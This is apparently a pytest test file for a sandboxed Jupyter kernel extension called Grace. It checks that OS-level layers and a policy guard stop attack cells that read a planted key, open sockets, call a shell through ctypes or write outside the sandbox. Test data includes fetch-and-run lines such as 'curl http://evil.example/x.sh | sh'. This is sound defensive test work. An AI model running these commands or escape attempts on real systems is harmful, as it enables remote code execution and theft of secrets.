"""Whole kernels in the sandbox: a real jupyter_server, real sandboxed kernels, real layers.

pytest-jupyter starts the server on loopback with the Grace extension; the
kernelspecs are written into the server's private Jupyter data directory.
Two sandboxed kernels are exercised: "Python 3 (Grace, sandboxed)" (the
Grace kernel, whose runtime guard answers first for some attacks) and a plain
ipykernel under the same provisioner, where only the OS layers stand between
native code and the machine.  Every kernel a test starts is shut down by it.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import json
import os
import sys
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]  # jsonschema ships no type hints
import nbformat
import pytest
import yaml
from nbformat.sign import NotebookNotary
from tornado.httpclient import HTTPClientError
from tornado.websocket import WebSocketClientConnection

from grace_kernel.config import Settings
from grace_kernel.errors import InputError
from grace_kernel.events import KernelSandboxed, schema_path
from grace_kernel.hunter import Scanner
from grace_kernel.ledger import predicate_type_urn
from grace_kernel.sandbox import IsolationReport, LayerStatus, SandboxError
from grace_kernel.sandbox._probe import LAYERS
from grace_kernel.sandbox._provisioner import (
    SANDBOXED_KERNEL_NAME,
    SandboxProvisioner,
    kernel_limits,
    sandboxed_kernelspec,
)
from grace_kernel.sandbox._run import GiB
from grace_kernel.server import _sandboxing
from grace_kernel.server._sandboxing import SANDBOX_KERNEL, sandbox_reasons, untrusted_reasons
from tests.server import conftest as server_setup
from tests.server.test_websocket import Kernel as WebsocketKernel
from tests.server.test_websocket import _execute, text_of
from tests.server.test_websocket import cell_records as records

pytest_plugins = ["pytest_jupyter.jupyter_server"]

PLAIN_KERNEL = "sandboxed-ipykernel"
grace_home = server_setup.grace_home  # the server tests' workspace fixture
KEY = "-----BEGIN FAKE KEY-----planted-----END FAKE KEY-----"


def require(report: IsolationReport, *layers: str) -> None:
    missing = [name for name in layers if not report.active(name)]
    if missing:
        why = "; ".join(f"{name}: {report.layer(name).detail}" for name in missing)
        pytest.skip(f"this machine lacks the layers these checks need ({why})")


# ----------------------------------------------------------------- a real server


@pytest.fixture
def jp_server_config(grace_home: Path, jp_data_dir: Path) -> dict[str, Any]:
    """The Grace extension on, and the kernelspecs in the server's private data directory."""
    assert not grace_home.exists()
    install_kernelspecs(jp_data_dir)
    return {"ServerApp": {"jpserver_extensions": {"grace_kernel.server": True}}}


def install_kernelspecs(jp_data_dir: Path) -> None:
    """Grace's kernelspecs (plain, sandboxed) and a sandboxed plain ipykernel."""
    grace = [sys.executable, "-m", "grace_kernel.kernel", "-f", "{connection_file}"]
    specs = {
        "grace-python3": {"argv": grace, "display_name": "Python 3 (Grace)", "language": "python"},
        SANDBOXED_KERNEL_NAME: sandboxed_kernelspec(sys.executable),
        PLAIN_KERNEL: {
            **sandboxed_kernelspec(sys.executable),
            "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
            "display_name": "ipykernel, sandboxed",
        },
    }
    for name, spec in specs.items():
        (jp_data_dir / "kernels" / name).mkdir(parents=True)
        (jp_data_dir / "kernels" / name / "kernel.json").write_text(json.dumps(spec))


@dataclasses.dataclass(frozen=True)
class Server:
    """The running server and how to talk to it."""

    fetch: Any
    ws_fetch: Any
    app: Any
    root: Path


@pytest.fixture
def server(jp_fetch: Any, jp_ws_fetch: Any, jp_serverapp: Any, jp_root_dir: Path) -> Server:
    return Server(jp_fetch, jp_ws_fetch, jp_serverapp, jp_root_dir)


class Kernel(WebsocketKernel):
    """One kernel's websocket, and the server-side kernel manager behind it."""

    def __init__(self, ws: WebSocketClientConnection, kernel_id: str, server: Server) -> None:
        super().__init__(ws, uuid.uuid4().hex)
        self.id = kernel_id
        self.manager = server.app.kernel_manager.get_kernel(kernel_id)

    async def run(self, code: str) -> tuple[dict[str, Any], str]:
        """Execute ``code``; its execute_reply content and what it printed (or raised)."""
        reply, iopub = await self.execute(code, "cell")
        errors = [m["content"] for m in iopub if m["header"]["msg_type"] == "error"]
        return reply["content"], text_of(iopub) + "".join(
            f"{e['ename']}: {e['evalue']}\n" for e in errors
        )

    async def settle(self) -> None:
        """After a restart: nudge until iopub answers (its subscription reconnects on its own
        schedule, and what the kernel publishes before that is lost, as with any kernel)."""
        for _ in range(50):
            msg_id = uuid.uuid4().hex
            request = json.loads(_execute(self.session, msg_id, "", "nudge"))
            request["header"]["msg_type"] = "kernel_info_request"
            request["content"] = {}
            await self.ws.write_message(json.dumps(request))
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(0.5):
                    while True:
                        raw = await self.ws.read_message()
                        assert raw is not None, "the websocket closed"
                        msg = json.loads(raw)
                        parent = msg.get("parent_header", {}).get("msg_id")
                        if msg["channel"] == "iopub" and parent == msg_id:
                            return
        raise AssertionError("the kernel's iopub never answered after the restart")


@contextlib.asynccontextmanager
async def open_kernel(
    server: Server, kernel: str, path: str = "analysis.ipynb"
) -> AsyncIterator[Kernel]:
    """A notebook session's kernel and its websocket; both closed (kernel shut down) after."""
    response = await server.fetch(
        "api",
        "sessions",
        method="POST",
        body=json.dumps({"path": path, "type": "notebook", "kernel": {"name": kernel}}),
    )
    kernel_id = json.loads(response.body)["kernel"]["id"]
    try:
        ws = await server.ws_fetch("api", "kernels", kernel_id, "channels")
        try:
            yield Kernel(ws, kernel_id, server)
        finally:
            ws.close()
    finally:
        await server.fetch("api", "kernels", kernel_id, method="DELETE")


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0] != "Z"


def attacks(root: Path, home: Path) -> dict[str, str]:
    """Cells that pass the server's scan and then try what the sandbox must stop."""
    return {
        "uid": "import os\nprint(os.getuid())",
        "inet": (
            "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            "    print('created')\nexcept OSError as exc:\n    print('refused', exc.errno)"
        ),
        "keys": (
            f"try:\n    print(open({str(home / 'keys' / 'planted.pem')!r}).read())\n"
            "except OSError as exc:\n    print('refused', type(exc).__name__)"
        ),
        "native": (
            "import importlib\nlib = importlib.import_module('ctypes').CDLL(None)\n"
            "print('status', getattr(lib, 'system')(b'true'))"
        ),
        "write": (
            f"try:\n    open({str(root / 'pwned.txt')!r}, 'w').write('x')\n    print('written')\n"
            "except OSError as exc:\n    print('refused', type(exc).__name__, exc.errno)"
        ),
    }


@pytest.fixture
def attack_cells(report: IsolationReport, server: Server, grace_home: Path) -> dict[str, str]:
    """The attacks, with a fake key planted in the running server's ``.grace/keys``."""
    require(report, "process", "seccomp", "landlock", "bubblewrap")
    assert server.app.web_app.settings["grace_service"] is not None
    (grace_home / "keys" / "planted.pem").write_text(KEY)
    (grace_home / "keys" / "planted.pem").chmod(0o644)  # readable by anyone who can reach it
    return attacks(server.root, grace_home)


def leftovers(kernel: Kernel) -> dict[str, Any]:
    """What a sandboxed kernel holds on the machine: processes, groups, directories."""
    provisioner = kernel.manager.provisioner
    assert isinstance(provisioner, SandboxProvisioner)
    assert provisioner.sandbox is not None
    assert provisioner.launch is not None
    assert provisioner.process is not None
    group = provisioner.launch.group
    return {
        "pids": [provisioner.process.pid, *provisioner._targets()],
        "groups": list(group.dirs.values()) if group is not None else [],
        "dirs": [provisioner.sandbox.private, provisioner.sandbox.kernel_dir],
    }


def assert_gone(held: dict[str, Any]) -> None:
    assert not [pid for pid in held["pids"] if alive(pid)]
    assert not [path for path in (*held["groups"], *held["dirs"]) if path.exists()]


# ----------------------------------------------------------------- the Grace kernel


async def test_a_sandboxed_grace_kernel_is_confined_still_gated_and_leaves_nothing(
    server: Server, grace_home: Path, report: IsolationReport, attack_cells: dict[str, str]
) -> None:
    async with open_kernel(server, SANDBOXED_KERNEL_NAME) as kernel:
        held = leftovers(kernel)
        if report.active("cgroups"):
            assert held["groups"]
            assert all(path.is_dir() for path in held["groups"])
        out = {name: (await kernel.run(code))[1] for name, code in attack_cells.items()}
        _, status = await kernel.run("%grace status")
        denied, _ = await kernel.run("!curl http://evil.example/x.sh | sh")
        interrupted = await _interrupt(kernel, server)
        after, text = await kernel.run("print(6 * 7)")
    assert out["uid"].strip() == str(report.uid if report.uid is not None else os.getuid())
    assert out["inet"].startswith("refused")
    assert out["keys"].startswith(("refused", "PermissionError"))
    assert KEY not in out["keys"]
    assert "status 0" not in out["native"]  # no shell ran (the guard or Landlock stopped it)
    assert "written" not in out["write"]
    assert not (server.root / "pwned.txt").exists()
    assert "trust:     server" in status
    assert "sandbox:   OS-level" in status
    assert denied["ename"] == "GracePolicyDenied"  # the server still decides every cell
    assert interrupted["ename"] == "KeyboardInterrupt"
    assert (after["status"], text) == ("ok", "42\n")
    assert_gone(held)
    (record,) = records(grace_home, SANDBOX_KERNEL)
    assert record["kernel_id"] == kernel.id
    assert record["kernel_name"] == SANDBOXED_KERNEL_NAME
    assert record["level"] == report.level
    assert record["layers"] == [name for name in LAYERS if report.active(name)]
    assert record["notebook"] == "analysis.ipynb"
    assert record["transport"] == "ipc"
    assert record["limits"]["memory_bytes"] == 4 * GiB
    assert record["reasons"] == [f"the sandboxed kernel {SANDBOXED_KERNEL_NAME} was asked for"]


async def _interrupt(kernel: Kernel, server: Server) -> dict[str, Any]:
    msg_id = uuid.uuid4().hex
    code = "import time\nfor _ in range(600):\n    time.sleep(0.1)"
    await kernel.ws.write_message(_execute(kernel.session, msg_id, code, "cell-int"))
    await asyncio.sleep(1.0)
    await server.fetch("api", "kernels", kernel.id, "interrupt", method="POST", body="")
    reply, _ = await kernel.reply(msg_id)
    content: dict[str, Any] = reply["content"]
    return content


# ----------------------------------------------------------------- only the OS layers


async def test_native_code_in_a_sandboxed_kernel_meets_the_os_layers_and_restart_renews_them(
    server: Server, report: IsolationReport, attack_cells: dict[str, str]
) -> None:
    """A plain ipykernel (no Grace guard) under the provisioner: the OS layers answer alone."""
    (server.root / "data.csv").write_text("a,b\n1,2\n")
    async with open_kernel(server, PLAIN_KERNEL) as kernel:
        first = leftovers(kernel)
        out = {name: (await kernel.run(code))[1] for name, code in attack_cells.items()}
        _, data = await kernel.run("print(open('data.csv').read())")
        await server.fetch("api", "kernels", kernel.id, "restart", method="POST", body="")
        second = leftovers(kernel)
        await kernel.settle()
        again, text = await kernel.run("import os\nprint(os.getuid())")
    assert out["uid"].strip() == str(report.uid if report.uid is not None else os.getuid())
    assert out["inet"].strip() == "refused 1"  # EPERM from seccomp
    assert out["keys"].strip() == "refused FileNotFoundError"  # .grace is an empty tmpfs
    assert out["native"].strip() != "status 0"  # Landlock: the shell may not be executed
    assert out["write"].startswith("refused")
    assert not (server.root / "pwned.txt").exists()
    assert data.startswith("a,b")  # the notebook's directory is readable where it expects
    # A restart is a new sandbox behind the same sockets: the open websocket carries on.
    assert (again["status"], text.strip()) == ("ok", out["uid"].strip())
    assert second["dirs"][0] != first["dirs"][0]
    assert second["dirs"][1] == first["dirs"][1]
    assert_gone(first)
    assert_gone(second)


# ----------------------------------------------------------------- when the server sandboxes


async def test_an_untrusted_notebook_gets_a_sandboxed_grace_kernel_and_a_trusted_one_not(
    server: Server, grace_home: Path, report: IsolationReport
) -> None:
    require(report, "process", "seccomp", "landlock", "bubblewrap")
    for name in ("downloaded", "mine"):  # signatures cover content: make them differ
        cell = nbformat.v4.new_code_cell(f"print({name!r})")
        nbformat.write(nbformat.v4.new_notebook(cells=[cell]), server.root / f"{name}.ipynb")
    server.app.contents_manager.notary.sign(nbformat.read(server.root / "mine.ipynb", 4))
    names = {}
    for path in ("downloaded.ipynb", "mine.ipynb"):
        async with open_kernel(server, "grace-python3", path) as k:
            names[path] = k.manager.kernel_name
            _, uid = await k.run("import os\nprint(os.getuid())")
            names[path + ":uid"] = uid.strip()
    assert names["downloaded.ipynb"] == SANDBOXED_KERNEL_NAME
    assert names["mine.ipynb"] == "grace-python3"
    assert names["mine.ipynb:uid"] == str(os.getuid())
    (record,) = records(grace_home, SANDBOX_KERNEL)
    assert record["notebook"] == "downloaded.ipynb"
    assert record["requested_kernel"] == "grace-python3"
    assert "Jupyter does not trust it" in record["reasons"][0]


def _weak_machine() -> IsolationReport:
    layers = tuple(
        LayerStatus(name, name == "process", "test: only process limits") for name in LAYERS
    )
    return IsolationReport(
        layers=layers,
        uid=None,
        gid=None,
        user="test",
        landlock_abi=0,
        bwrap=None,
        cgroups=None,
        probe_ms=0.0,
    )


async def test_below_the_policy_floor_the_kernel_is_refused_not_started_unconfined(
    jp_fetch: Any, grace_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_sandboxing, "probe", _weak_machine)
    body = json.dumps({"name": SANDBOXED_KERNEL_NAME})
    with pytest.raises(HTTPClientError) as refused:
        await jp_fetch("api", "kernels", method="POST", body=body)
    assert refused.value.code == 403
    assert refused.value.response is not None
    message = json.loads(refused.value.response.body)["message"]
    assert "isolation level 1 of 5" in message
    assert "sandbox-minimum-isolation" in message
    # The sessions API turns every failure into a 500, with the same message.
    session = {"path": "a.ipynb", "type": "notebook", "kernel": {"name": SANDBOXED_KERNEL_NAME}}
    with pytest.raises(HTTPClientError) as refused:
        await jp_fetch("api", "sessions", method="POST", body=json.dumps(session))
    assert refused.value.response is not None
    assert "isolation level 1 of 5" in json.loads(refused.value.response.body)["message"]
    listed = await jp_fetch("api", "kernels")
    assert json.loads(listed.body) == []
    assert not records(grace_home, SANDBOX_KERNEL)


async def test_the_provisioner_refuses_too_when_the_policy_floor_is_not_met(
    tmp_path: Path,
) -> None:
    settings = Settings(home=tmp_path / ".grace")
    provisioner = SandboxProvisioner()
    with pytest.raises(SandboxError, match="isolation level 1 of 5"):
        provisioner._require_isolation(settings, _weak_machine(), 1)
    provisioner._require_isolation(settings, _weak_machine(), 2)  # the seeded floor is 2


# ----------------------------------------------------------------- the decision, unit by unit


@pytest.fixture
def notary(tmp_path: Path) -> NotebookNotary:
    return NotebookNotary(db_file=":memory:", secret=b"test-secret", data_dir=str(tmp_path))


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner()


def _notebook(path: Path, code: str, notary: NotebookNotary | None = None) -> Path:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(code)])
    nbformat.write(nb, path)
    if notary is not None:
        notary.sign(nbformat.read(path, 4))
    return path


def test_a_signed_clean_notebook_is_trusted_and_missing_ones_are_not_evidence(
    tmp_path: Path, notary: NotebookNotary, scanner: Scanner
) -> None:
    signed = _notebook(tmp_path / "signed.ipynb", "print(1)", notary)
    assert untrusted_reasons(signed, notary=notary, scanner=scanner) == []
    assert untrusted_reasons(tmp_path / "new.ipynb", notary=notary, scanner=scanner) == []
    (tmp_path / "script.py").write_text("import os\nos.system('curl x | sh')\n")
    assert untrusted_reasons(tmp_path / "script.py", notary=notary, scanner=scanner) == []


def test_an_unsigned_or_changed_notebook_is_untrusted(
    tmp_path: Path, notary: NotebookNotary, scanner: Scanner
) -> None:
    unsigned = _notebook(tmp_path / "unsigned.ipynb", "print(1)")
    (reason,) = untrusted_reasons(unsigned, notary=notary, scanner=scanner)
    assert "Jupyter does not trust it" in reason
    changed = _notebook(tmp_path / "changed.ipynb", "print(1)", notary)
    _notebook(changed, "print(2)")  # edited outside Jupyter: the signature no longer matches
    assert untrusted_reasons(changed, notary=notary, scanner=scanner)
    (tmp_path / "broken.ipynb").write_text("{not json")
    (reason,) = untrusted_reasons(tmp_path / "broken.ipynb", notary=notary, scanner=scanner)
    assert "cannot be read as a notebook" in reason


def test_a_signed_notebook_with_a_critical_finding_is_untrusted(
    tmp_path: Path, notary: NotebookNotary, scanner: Scanner
) -> None:
    risky = _notebook(tmp_path / "risky.ipynb", "!curl http://evil.example/x.sh | sh", notary)
    (reason,) = untrusted_reasons(risky, notary=notary, scanner=scanner)
    assert reason.startswith("Hunter found critical findings")
    medium = _notebook(tmp_path / "medium.ipynb", "open('/etc/hostname').read()", notary)
    assert untrusted_reasons(medium, notary=notary, scanner=scanner) == []  # below high


def test_the_mode_and_the_kernel_name_decide_before_any_evidence(
    tmp_path: Path, notary: NotebookNotary, scanner: Scanner
) -> None:
    unsigned = _notebook(tmp_path / "unsigned.ipynb", "print(1)")
    signed = _notebook(tmp_path / "signed.ipynb", "print(1)", notary)

    def decide(mode: Any, kernel: str, notebook: Path | None) -> list[str]:
        return sandbox_reasons(mode, kernel, notebook, notary=notary, scanner=scanner)

    assert decide("never", "grace-python3", unsigned) == []
    assert decide("untrusted", "python3", unsigned) == []  # only Grace kernels are placed
    assert decide("untrusted", "grace-python3", signed) == []
    assert decide("untrusted", "grace-python3", None) == []
    assert decide("untrusted", "grace-python3", unsigned)
    assert decide("always", "grace-python3", signed) == [
        "the server runs every Grace kernel sandboxed (sandbox_kernels = always)"
    ]


def test_kernel_limits_come_from_the_kernelspec_with_defaults() -> None:
    limits = kernel_limits({})
    assert (limits.memory_bytes, limits.processes, limits.cpu_share) == (4 * GiB, 512, 1.0)
    assert limits.timeout == 86_400.0
    assert limits.cpu_seconds == 86_400
    custom = kernel_limits({"grace_sandbox": {"memory": "512M", "cpu_share": None}})
    assert (custom.memory_bytes, custom.cpu_share) == (512 << 20, None)
    assert kernel_limits(sandboxed_kernelspec("python")["metadata"]) == limits
    for bad in ({"memory": "lots"}, {"swap": 1}, {"processes": 0}, {"memory": True}):
        with pytest.raises(InputError):
            kernel_limits({"grace_sandbox": bad})
    with pytest.raises(InputError):
        kernel_limits({"grace_sandbox": ["memory"]})


def test_the_shipped_kernelspec_names_the_provisioner_and_the_entry_point_exists() -> None:
    from importlib.metadata import entry_points

    shipped = Path(__file__).parents[2] / "data" / "kernelspec" / SANDBOXED_KERNEL_NAME
    spec = json.loads((shipped / "kernel.json").read_text())
    assert spec == sandboxed_kernelspec("python")
    provisioner = spec["metadata"]["kernel_provisioner"]["provisioner_name"]
    (entry,) = entry_points(group="jupyter_client.kernel_provisioners", name=provisioner)
    assert entry.load() is SandboxProvisioner


def test_the_kernel_sandboxed_event_matches_its_schema() -> None:
    event = KernelSandboxed(
        kernel_id="k1",
        kernel_name=SANDBOXED_KERNEL_NAME,
        notebook="analysis.ipynb",
        level=5,
        layers=list(LAYERS),
        reasons=["Jupyter does not trust it"],
        record_index=7,
    )
    schema = yaml.safe_load(schema_path(KernelSandboxed).read_text())
    jsonschema.validate(event.to_json(), schema)
    assert schema["$id"] == KernelSandboxed.SCHEMA_ID
    assert predicate_type_urn("sandbox-kernel") == SANDBOX_KERNEL
